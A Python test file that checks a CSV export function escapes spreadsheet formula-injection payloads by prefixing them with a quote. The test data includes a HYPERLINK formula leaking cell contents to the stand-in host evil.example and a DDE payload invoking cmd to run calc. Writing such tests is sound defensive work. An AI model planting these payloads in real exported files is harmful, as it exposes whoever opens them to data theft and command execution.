"""CSV files people open in a spreadsheet never carry a cell that runs as a formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import polars as pl
import pytest

from jobs.reconcile.report import findings_csv
from jobs.reconcile.spreadsheet_csv import spreadsheet_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_cell_that_would_run_as_a_formula_is_prefixed_with_a_quote(cell: str) -> None:
    rows = _rows(spreadsheet_csv(pl.DataFrame({"key": [cell]})))
    assert rows == [["key"], ["'" + cell]]


def test_other_cells_and_csv_quoting_are_untouched() -> None:
    frame = pl.DataFrame(
        {
            "key": ["raw/u1/d1/a,b.pdf", 'say "hi"', "two\nlines", "a=b", " =spaced", None, ""],
            "count": [-5, 0, 1, 2, 3, 4, 5],  # numbers are no formulas: -5 stays a number
        }
    )
    data = spreadsheet_csv(frame)
    assert data.splitlines()[1] == b'"raw/u1/d1/a,b.pdf",-5'
    assert _rows(data)[1:] == [
        ["raw/u1/d1/a,b.pdf", "-5"],
        ['say "hi"', "0"],
        ["two\nlines", "1"],
        ["a=b", "2"],
        [" =spaced", "3"],
        ["", "4"],
        ["", "5"],
    ]


def test_categorical_text_is_escaped_too() -> None:
    frame = pl.DataFrame({"code": pl.Series(["=1+1", "OK"], dtype=pl.Categorical)})
    assert _rows(spreadsheet_csv(frame))[1:] == [["'=1+1"], ["OK"]]


def test_findings_csv_escapes_a_hostile_key_and_evidence() -> None:
    findings = pl.DataFrame(
        {
            "code": ["ORPHAN_RAW"],
            "severity": ["WARNING"],
            "userId": ["-u1"],
            "documentId": ["@d1"],
            "bucket": ["raw-bucket"],
            "key": ['=HYPERLINK("http://evil.example")'],
            "evidence": ['{"size":1}'],
        }
    )
    header, row = _rows(findings_csv(findings))
    assert dict(zip(header, row, strict=True)) == {
        "code": "ORPHAN_RAW",
        "severity": "WARNING",
        "userId": "'-u1",
        "documentId": "'@d1",
        "bucket": "raw-bucket",
        "key": '\'=HYPERLINK("http://evil.example")',
        "evidence": '{"size":1}',
    }
